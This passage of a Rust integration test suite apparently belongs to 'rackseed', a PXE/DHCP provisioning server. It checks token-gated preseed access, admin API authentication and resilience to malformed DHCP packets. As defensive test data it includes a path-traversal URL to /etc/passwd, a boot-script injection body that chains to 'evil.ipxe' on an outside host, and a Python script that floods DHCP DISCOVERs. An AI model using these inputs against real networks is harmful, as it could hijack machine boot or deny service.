s.sendall(b"GET /installer/default/linux HTTP/1.0\r\n\r\n"); c, h, b = response()
out.append("http10 %s %s %s" % (c, hashlib.sha256(b).hexdigest(), f.read(1) == b""))
print("\n".join(out))
"#;
    let out = c.sh(&format!("python3 -c '{}'", probe.replace('\'', "'\\''")))?;
    let sum = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&linux))
    };
    for want in [
        "healthz 200 True".to_string(),
        format!("linux 200 {sum} {}", linux.len()),
        "post 404".to_string(),
        format!("pipelined 200 200 {sum}"),
        "range 206 10".to_string(),
        "missing 404".to_string(),
        format!("http10 200 {sum} True"),
    ] {
        assert!(out.lines().any(|l| l == want), "want {want:?} in:\n{out}");
    }
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    let sent: u64 = m
        .lines()
        .find_map(|l| l.strip_prefix("rackseed_http_sendfile_bytes_total "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        sent >= 3 * linux.len() as u64,
        "whole files went through sendfile: {sent} bytes\n{m}"
    );
    let (code, _) = srv.curl(&["http://192.0.2.1:8080/installer/other/linux"])?;
    assert_eq!(code, 404);
    let (code, _) =
        srv.curl(&["http://192.0.2.1:8080/installer/default/..%2f..%2fetc%2fpasswd"])?;
    assert_eq!(code, 404);
    Ok(())
}

fn token_from_script(script: &str) -> String {
    script
        .split("/install/")
        .nth(1)
        .and_then(|r| r.split('/').next())
        .expect("install URL in script")
        .to_string()
}

#[test]
fn preseed_needs_the_nodes_live_token() -> Result<()> {
    let mut lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    srv.add_node("52:54:00:09:00:01", "web1", "lab-single-disk", &[])?;
    srv.add_node("52:54:00:09:00:02", "web2", "lab-single-disk", &["--ready"])?;
    let node = lab.node_client("52:54:00:09:00:01")?;
    let (code, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
    assert_eq!(code, 200);
    let script = String::from_utf8(script)?;
    assert!(
        script.starts_with("#!ipxe")
            && script.contains("kernel http://192.0.2.1:8080/installer/default/linux"),
        "{script}"
    );
    let token = token_from_script(&script);
    let url = |t: &str, f: &str| format!("http://192.0.2.1:8080/install/{t}/{f}");
    let (code, preseed) = node.curl(&[&url(&token, "preseed.cfg")])?;
    assert_eq!(code, 200);
    let preseed = String::from_utf8(preseed)?;
    assert!(
        preseed.contains("d-i passwd/root-password-crypted password $6$"),
        "no hash in preseed"
    );
    assert!(!preseed.contains("rackseed-lab"), "plain password leaked");
    for bad in [
        "0".repeat(48),
        token[..47].to_string(),
        format!("{token}x"),
        "../../etc".into(),
    ] {
        assert_eq!(
            node.curl(&[&url(&bad, "preseed.cfg")])?.0,
            404,
            "token {bad}"
        );
    }
    assert_eq!(node.curl(&[&url(&token, "passwd")])?.0, 404);

    // Another host on the LAN (a static address, and one with its own lease, and the
    // appliance's own address) gets neither the script nor anything the token unlocks.
    let other = lab.node_client("52:54:00:09:00:99")?;
    let stranger = lab.client("52:54:00:09:00:66", Some("192.0.2.66/24"))?;
    let from_stranger = |args: &[&str]| rackseed_tests::curl_in(&stranger.name, args);
    for (who, res) in [
        (
            "a static address",
            from_stranger(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
        ),
        (
            "another leased machine",
            other.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
        ),
        (
            "the appliance itself",
            srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?,
        ),
        (
            "a static address",
            from_stranger(&[&url(&token, "preseed.cfg")])?,
        ),
        (
            "a static address",
            from_stranger(&[&url(&token, "late.sh")])?,
        ),
        (
            "a static address",
            from_stranger(&["--data", "x", &url(&token, "events/late_command")])?,
        ),
        (
            "another leased machine",
            other.curl(&[&url(&token, "preseed.cfg")])?,
        ),
        (
            "another leased machine",
            other.curl(&["--data", "x", &url(&token, "events/error")])?,
        ),
        (
            "a static address",
            from_stranger(&[&format!(
                "http://192.0.2.1:8080/install/{token}/agent/rackseed"
            )])?,
        ),
    ] {
        assert_eq!(
            res.0,
            404,
            "served to {who}: {}",
            String::from_utf8_lossy(&res.1)
        );
        assert!(
            !String::from_utf8_lossy(&res.1).contains(&token),
            "token leaked to {who}"
        );
    }
    assert_eq!(
        srv.node_state("web1")?,
        "provisioning",
        "a refused event moved the node"
    );
    let refused: Vec<String> = srv
        .timeline("web1")?
        .into_iter()
        .filter(|(k, _)| k == "refused")
        .map(|(_, m)| m)
        .collect();
    for want in [
        "refused the install script (iPXE) to 192.0.2.66: this node holds no DHCP lease",
        &format!(
            "to {}: rackseed leased that address to 52:54:00:09:00:99",
            other.ip
        ),
        "refused the install script (iPXE) to 192.0.2.1",
    ] {
        assert!(
            refused.iter().any(|m| m.contains(want)),
            "no refusal `{want}` on the timeline: {refused:#?}"
        );
    }
    // Once a minute per address: the repeated refusals from 192.0.2.66 are one event.
    assert_eq!(
        refused
            .iter()
            .filter(|m| m.contains(" to 192.0.2.66:"))
            .count(),
        1,
        "{refused:#?}"
    );
    let metrics = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    assert!(
        metrics.contains("rackseed_token_refused_total 9"),
        "{}",
        metrics
            .lines()
            .filter(|l| l.contains("refused"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    // The node itself is still served.
    assert_eq!(node.curl(&[&url(&token, "preseed.cfg")])?.0, 200);

    // A ready node has no live token; its script says it waits.
    let (_, s2) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-02.ipxe"])?;
    assert!(String::from_utf8(s2)?.contains("is ready but not scheduled"));
    // Events move the node; once installed the preseed is gone.
    let ev = |kind: &str| {
        node.curl(&[
            "--data",
            "x",
            &format!("http://192.0.2.1:8080/install/{token}/events/{kind}"),
        ])
        .map(|r| r.0)
    };
    assert_eq!(
        ev("late_command")?,
        409,
        "late before early must be refused"
    );
    assert_eq!(
        srv.node_state("web1")?,
        "provisioning",
        "refused event changed state"
    );
    assert_eq!(ev("early_command")?, 200);
    assert_eq!(srv.node_state("web1")?, "installing");
    assert_eq!(ev("late_command")?, 200);
    assert_eq!(srv.node_state("web1")?, "installed");
    assert_eq!(
        node.curl(&[&url(&token, "preseed.cfg")])?.0,
        404,
        "preseed served to an installed node"
    );
    assert_eq!(
        ev("error")?,
        404,
        "the install token works after the install"
    );
    let (_, s3) = srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
    assert!(
        String::from_utf8(s3)?.contains("sanboot"),
        "installed node should boot locally"
    );
    // Reprovision: a fresh token, the old one dead.
    srv.cli(&["node", "reprovision", "web1"])?;
    let (_, s4) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-01.ipxe"])?;
    let t2 = token_from_script(&String::from_utf8(s4)?);
    assert_ne!(t2, token);
    assert_eq!(node.curl(&[&url(&token, "preseed.cfg")])?.0, 404);
    assert_eq!(node.curl(&[&url(&t2, "preseed.cfg")])?.0, 200);
    Ok(())
}

/// A failure reason an installer posts (or a host that got hold of a token) cannot put
/// commands into the node's next boot script: it is shown as text, `$`, `|`, `&` and
/// line breaks replaced.
#[test]
fn an_event_body_cannot_inject_into_the_next_boot_script() -> Result<()> {
    let lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    let mac = "52:54:00:09:00:07";
    srv.add_node(mac, "inject1", "lab-single-disk", &[])?;
    let node = lab.node_client(mac)?;
    let token = node.install_token(mac)?;
    let body = srv.dir.path().join("event-body");
    std::fs::write(
        &body,
        "disk gone\nchain http://192.0.2.66/evil.ipxe\r\nshell || ${root} && x\u{0}#y",
    )?;
    let (code, _) = node.curl(&[
        "--data-binary",
        &format!("@{}", body.display()),
        &format!("http://192.0.2.1:8080/install/{token}/events/error"),
    ])?;
    assert_eq!(code, 200);
    assert_eq!(srv.node_state("inject1")?, "failed");
    for fetch in [
        node.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"])?,
        srv.curl(&["http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"])?,
    ] {
        let script = String::from_utf8(fetch.1)?;
        let commands: Vec<&str> = script
            .lines()
            .filter(|l| !l.starts_with('#'))
            .filter_map(|l| l.split_whitespace().next())
            .collect();
        assert_eq!(
            commands,
            ["echo", "echo", "echo", "sleep", "chain"],
            "{script}"
        );
        assert!(!script.contains("evil.ipxe\n"), "{script}");
        assert!(!script.contains('$'), "{script}");
        assert!(
            script.contains("failed: disk gone?chain http://192.0.2.66/evil.ipxe"),
            "{script}"
        );
        let last = script.lines().last().unwrap_or_default();
        assert_eq!(
            last,
            "chain --replace http://192.0.2.1:8080/boot/52-54-00-09-00-07.ipxe"
        );
    }
    Ok(())
}

#[test]
fn expired_preseed_token_gets_404_and_the_node_fails_visibly() -> Result<()> {
    let lab = Lab::new()?;
    let cfg = LabConfig::lab().with("short-token-ttl");
    let srv = Server::start(&lab, &cfg)?;
    srv.add_node("52:54:00:0a:00:01", "late1", "lab-single-disk", &[])?;
    let node = lab.node_client("52:54:00:0a:00:01")?;
    let (_, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
    let token = token_from_script(&String::from_utf8(script)?);
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(
        node.curl(&[&format!(
            "http://192.0.2.1:8080/install/{token}/preseed.cfg"
        )])?
        .0,
        404
    );
    let (_, script) = node.curl(&["http://192.0.2.1:8080/boot/52-54-00-0a-00-01.ipxe"])?;
    let script = String::from_utf8(script)?;
    assert!(script.contains("failed: install token expired"), "{script}");
    assert_eq!(srv.node_state("late1")?, "failed");
    Ok(())
}

#[test]
fn admin_api_checks_token_and_input() -> Result<()> {
    let lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    let admin = format!("{}/api/nodes", rackseed_tests::ADMIN);
    let (code, body) = srv.curl(&[&admin])?;
    assert_eq!(code, 401);
    assert!(String::from_utf8(body)?.contains("\"error\""));
    let (code, _) = srv.curl(&["-H", "Authorization: Bearer nope", &admin])?;
    assert_eq!(code, 401);
    // The admin API is not on the listener nodes use, even with the right token: the
    // token never has to cross the provisioning network.
    let (code, _) = srv.curl(&[
        "-H",
        &format!("Authorization: Bearer {}", srv.token),
        "http://192.0.2.1:8080/api/nodes",
    ])?;
    assert_eq!(code, 404);
    assert!(
        srv.curl(&["http://192.0.2.1:8081/api/nodes"]).is_err(),
        "the admin listener is on loopback only by default"
    );
    let add = |b: serde_json::Value| srv.api_post("/api/nodes", &b);
    let (code, v) = add(json!({"mac": "nonsense", "hostname": "a", "profile": "lab-single-disk"}))?;
    assert_eq!(
        (code, v["error"].as_str().unwrap_or("").starts_with("mac:")),
        (400, true),
        "{v}"
    );
    let (code, v) =
        add(json!({"mac": "52:54:00:0b:00:01", "hostname": "a", "profile": "missing"}))?;
    assert_eq!(code, 400);
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("no profile named `missing`"),
        "{v}"
    );
    let (code, v) = add(
        json!({"mac": "52:54:00:0b:00:01", "hostname": "a", "profile": "lab-single-disk", "ip": "203.0.113.9"}),
    )?;
    assert_eq!(code, 400, "{v}");
    let (code, v) = add(
        json!({"mac": "52:54:00:0b:00:01", "hostname": "a", "profile": "lab-single-disk", "colour": "red"}),
    )?;
    assert_eq!(code, 400, "{v}");
    let (code, _) = add(
        json!({"mac": "52:54:00:0b:00:01", "hostname": "a", "profile": "lab-single-disk", "ip": "192.0.2.20"}),
    )?;
    assert_eq!(code, 201);
    let (code, v) =
        add(json!({"mac": "52:54:00:0b:00:02", "hostname": "a", "profile": "lab-single-disk"}))?;
    assert_eq!(code, 409);
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("hostname `a` is already used"),
        "{v}"
    );
    let (code, _) = srv.api_post("/api/nodes/nobody/reprovision", &json!(null))?;
    assert_eq!(code, 404);
    // The CLI shows the same node; rm removes it.
    assert!(srv.cli(&["node", "list"])?.contains("52:54:00:0b:00:01"));
    srv.cli(&["node", "rm", "a"])?;
    assert!(!srv.cli(&["node", "list"])?.contains("52:54:00:0b:00:01"));
    // The token file is private.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(srv.dir.path().join("data/admin.token"))?
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600);
    Ok(())
}

#[test]
fn malformed_dhcp_packets_are_dropped_and_the_server_keeps_answering() -> Result<()> {
    let mut lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    let c = lab.client("52:54:00:0c:00:01", Some("192.0.2.54/24"))?;
    // Garbage, a truncated BOOTP header, and a packet with an option overrunning its end.
    let junk = "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET,socket.SO_BROADCAST,1)\nfor p in [b'x', b'\\x01\\x01\\x06\\x00'+b'\\x00'*20, b'\\x01\\x01\\x06\\x00'+b'\\x00'*232+b'\\x63\\x82\\x53\\x63\\x35\\x05\\x01', bytes(range(256))*2]:\n    s.sendto(p,('192.0.2.1',67))\n";
    c.sh(&format!("python3 -c \"{}\"", junk.replace('"', "\\\"")))?;
    c.ip(&["addr", "flush", "dev", "eth0"])?;
    let ip = udhcpc(c, None)?;
    assert!(ip.starts_with("192.0.2.1"));
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    let dropped: u64 = m
        .lines()
        .find_map(|l| l.strip_prefix("rackseed_dhcp_dropped_total "))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!(
        dropped >= 3,
        "malformed packets not counted as dropped:\n{m}"
    );
    Ok(())
}

/// A flood of PXE DISCOVERs from random MACs (and packets with wrong fixed-width
/// option lengths, which once panicked the DHCP task) neither stops DHCP nor fills the
/// inventory: discovery is rate-limited and counted, malformed packets are counted,
/// and a real client still gets its lease.
#[test]
fn a_flood_of_new_macs_is_rate_limited_and_dhcp_keeps_answering() -> Result<()> {
    let mut lab = Lab::new()?;
    // The limits sit in [dhcp].
    let cfg = LabConfig::lab().with("discovery-limits");
    let srv = Server::start(&lab, &cfg)?;
    let c = lab.client("52:54:00:0c:00:02", Some("192.0.2.55/24"))?;
    let flood = r#"
import socket, struct, random
random.seed(7)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
def discover(mac, extra=b''):
    hdr = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000,
                      bytes(4), bytes(4), bytes(4), bytes(4), mac + bytes(10), bytes(64), bytes(128))
    vendor = b'PXEClient:Arch:00000:UNDI:002001'
    opts = bytes([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 60, len(vendor)]) + vendor + extra
    return hdr + opts + bytes([255])
for i in range(300):
    mac = bytes([0x02, 0x66]) + random.getrandbits(32).to_bytes(4, 'big')
    s.sendto(discover(mac, bytes([93, 2, 0, 0])), ('192.0.2.1', 67))
for extra in [bytes([94, 2, 1, 2]), bytes([93, 1, 0]), bytes([81, 1, 0]), bytes([151, 0])]:
    for i in range(20):
        s.sendto(discover(bytes([0x02, 0x77, 0, 0, 0, i]), extra), ('192.0.2.1', 67))
"#;
    c.sh(&format!("python3 -c '{}'", flood.replace('\'', "'\\''")))?;
    std::thread::sleep(Duration::from_millis(500));
    // DHCP still answers a real client.
    c.ip(&["addr", "flush", "dev", "eth0"])?;
    let ip = udhcpc(c, None)?;
    assert!(ip.starts_with("192.0.2.1"), "{ip}");
    let nodes = srv.api("/api/nodes")?;
    let discovered = nodes["nodes"]
        .as_array()
        .map(|a| a.iter().filter(|n| n["state"] == "discovered").count())
        .unwrap_or(0);
    assert_eq!(discovered, 5, "discover_per_minute = 5: {nodes}");
    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
    let metric = |name: &str| rackseed_tests::metric_in(&m, name);
    assert!(metric("dhcp_discover_limited_total") >= 290, "{m}");
    assert_eq!(metric("dhcp_malformed_total"), 80, "{m}");
    assert!(
        srv.log_text().contains("dhcp.discover_per_minute = 5"),
        "no warning about the limit"
    );
    let health = srv.curl(&["http://192.0.2.1:8080/healthz"])?;
    assert_eq!(health.0, 200);
    assert!(String::from_utf8_lossy(&health.1).contains("\"dhcp\":{\"status\":\"up\"}"));
    Ok(())
}

/// A PXE client's boot-server request on port 4011 (PXE spec, section 2.2.4): in proxy
/// mode rackseed answers it from port 4011 with the boot file, next-server and
/// `PXEClient`, unicast to the client's address; it ignores non-PXE requests there.
#[test]
fn proxy_answers_pxe_boot_server_requests_on_port_4011() -> Result<()> {
    let mut lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::proxy())?;
    srv.add_node("52:54:00:0d:00:01", "pxe4011", "lab-single-disk", &[])?;
    let c = lab.client("52:54:00:0d:00:01", Some("192.0.2.167/24"))?;
    let script = r#"
import socket, struct, sys
mac = bytes.fromhex('5254000d0001')
def request(vendor):
    hdr = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, 0x4011, 0, 0, socket.inet_aton('192.0.2.167'),
                      bytes(4), bytes(4), bytes(4), mac + bytes(10), bytes(64), bytes(128))
    opts = bytes([0x63, 0x82, 0x53, 0x63, 53, 1, 3, 54, 4]) + socket.inet_aton('192.0.2.1')
    if vendor:
        opts += bytes([60, len(vendor)]) + vendor + bytes([93, 2, 0, 0])
    return hdr + opts + bytes([255])
for vendor in [b'PXEClient:Arch:00000:UNDI:002001', b'']:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('192.0.2.167', 68))
    s.settimeout(3)
    s.sendto(request(vendor), ('192.0.2.1', 4011))
    try:
        d, a = s.recvfrom(2000)
        siaddr = socket.inet_ntoa(d[20:24])
        print('reply', a[0], a[1], d[4:8].hex(), siaddr, d[108:236].rstrip(bytes(1)).decode(), b'PXEClient' in d[240:])
    except socket.timeout:
        print('none')
    s.close()
"#;
    let out = c.cmd("python3").arg("-c").arg(script).output()?;
    let out = String::from_utf8_lossy(&out.stdout).to_string();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert_eq!(
        lines[0],
        "reply 192.0.2.1 4011 00004011 192.0.2.1 undionly.kpxe True"
    );
    assert_eq!(lines[1], "none", "a non-PXE request on 4011 was answered");
    let t = srv.timeline("pxe4011")?;
    assert!(
        t.iter()
            .any(|(k, m)| k == "dhcp" && m.starts_with("ACK (port 4011) to pxe bios")),
        "{t:?}"
    );
    Ok(())
}

/// Supervision, on the real process: a service that dies (here TFTP, made to panic by
/// the debug build's fault injection `RACKSEED_FAILPOINT`) ends `rackseed serve` with a
/// non-zero status and a log line naming the service and the reason, instead of leaving
/// a process whose `/healthz` answers while TFTP is gone. systemd then restarts it.
#[test]
fn a_dying_service_ends_the_process_with_its_name_and_reason() -> Result<()> {
    let lab = Lab::new()?;
    let mut srv = Server::prepare(&lab, &LabConfig::lab())?;
    srv.env
        .push(("RACKSEED_FAILPOINT".into(), "tftp:3000".into()));
    srv.spawn()?;
    let health = srv.curl(&["http://192.0.2.1:8080/healthz"])?;
    assert_eq!(health.0, 200);
    assert!(String::from_utf8_lossy(&health.1).contains("\"tftp\":{\"status\":\"up\"}"));
    let status = srv.wait_exit(Duration::from_secs(30))?;
    assert!(!status.success(), "rackseed exited with {status}");
    let log = srv.log_text();
    assert!(
        log.contains("tftp") && log.contains("failpoint tftp:3000 fired"),
        "the exit does not name the service and reason: {}",
        rackseed_tests::tail(&log, 20)
    );
    let code = srv
        .curl(&["-m", "2", "http://192.0.2.1:8080/healthz"])
        .map(|r| r.0)
        .unwrap_or(0);
    assert_eq!(code, 0, "something still answers /healthz");
    Ok(())
}

/// A DHCPDISCOVER from `mac` (broadcast, from port 68) and the OFFER's address, or
/// `none` when nothing came within 5 s.
const DISCOVER_PY: &str = r#"
import socket, struct, sys, random
mac = bytes.fromhex(sys.argv[1].replace(':', ''))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
s.bind(('0.0.0.0', 68))
s.settimeout(5)
xid = random.getrandbits(32)
hdr = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, xid, 0, 0x8000,
                  bytes(4), bytes(4), bytes(4), bytes(4), mac + bytes(10), bytes(64), bytes(128))
s.sendto(hdr + bytes([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255]), ('255.255.255.255', 67))
try:
    while True:
        data, _ = s.recvfrom(1500)
        if len(data) > 240 and data[0] == 2 and struct.unpack('!I', data[4:8])[0] == xid:
            print('offer', socket.inet_ntoa(data[16:20]))
            break
except socket.timeout:
    print('none')
"#;

/// The inventory off the executor, with its own read connections: while another
/// process holds the inventory's write lock (a long transaction) and four admin API
/// writes wait behind it, DHCP still offers to a known node (a lookup the DHCP cache
/// does not hold), TFTP still serves a leased node and `/healthz` still answers; all of
/// them before the long transaction ends. Afterwards the waiting writes complete.
#[test]
fn a_long_inventory_write_stalls_no_dhcp_tftp_or_health_answer() -> Result<()> {
    let lab = Lab::new()?;
    let srv = Server::start(&lab, &LabConfig::lab())?;
    srv.add_node("52:54:00:0f:00:01", "leased", "lab-single-disk", &[])?;
    srv.add_node("52:54:00:0f:00:02", "asking", "lab-single-disk", &[])?;
    let leased = lab.node_client("52:54:00:0f:00:01")?;
    let asking = lab.host("52:54:00:0f:00:02", None)?;
    let db = srv.dir.path().join("data/inventory.db");
    let script = srv.dir.path().join("discover.py");
    std::fs::write(&script, DISCOVER_PY)?;
    // The long write: an IMMEDIATE transaction held for 8 s (under the 10 s busy timeout) by another process.
    let mut holder = std::process::Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import sqlite3, time, sys\nc = sqlite3.connect({:?}, isolation_level=None)\nc.execute('BEGIN IMMEDIATE')\nc.execute(\"UPDATE nodes SET updated_at = updated_at WHERE hostname = 'leased'\")\nprint('held', flush=True)\ntime.sleep(8)\nc.execute('COMMIT')\n",
            db.display().to_string()
        ))
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(holder.stdout.take().expect("stdout")),
        &mut line,
    )?;
    assert_eq!(line.trim(), "held");
    let writers: Vec<_> = (0..4)
        .map(|i| {
            let (token, ns) = (srv.token.clone(), srv.ns.clone());
            std::thread::spawn(move || {
                let body = json!({"mac": format!("52:54:00:0f:01:{i:02x}"), "hostname": format!("w{i}"), "profile": "lab-single-disk"}).to_string();
                rackseed_tests::curl_in(
                    &ns,
                    &[
                        "-m", "60", "-H", &format!("Authorization: Bearer {token}"),
                        "-H", "Content-Type: application/json", "--data", &body,
                        &format!("{}/api/nodes", rackseed_tests::ADMIN),
                    ],
                )
            })
        })
        .collect();
    std::thread::sleep(Duration::from_millis(500));
    let offer = asking.sh(&format!("python3 {} 52:54:00:0f:00:02", script.display()))?;
    assert!(
        offer.starts_with("offer 192.0.2."),
        "no DHCP offer: {offer}"
    );
    let got = leased.ns.sh(&format!(
        "atftp -g -r undionly.kpxe -l {}/u.kpxe 192.0.2.1 2>&1 && stat -c %s {}/u.kpxe",
        srv.dir.path().display(),
        srv.dir.path().display()
    ))?;
    assert!(got.trim().parse::<u64>().unwrap_or(0) > 10_000, "{got}");
    let (code, _) = srv.curl(&["-m", "5", "http://192.0.2.1:8080/healthz"])?;
    assert_eq!(code, 200);
    assert!(
        holder.try_wait()?.is_none(),
        "the answers came only after the long transaction ended"
    );
    assert!(holder.wait()?.success());
    for w in writers {
        let (code, body) = w.join().expect("writer thread")?;
        assert_eq!(code, 201, "{}", String::from_utf8_lossy(&body));
    }
    Ok(())
}
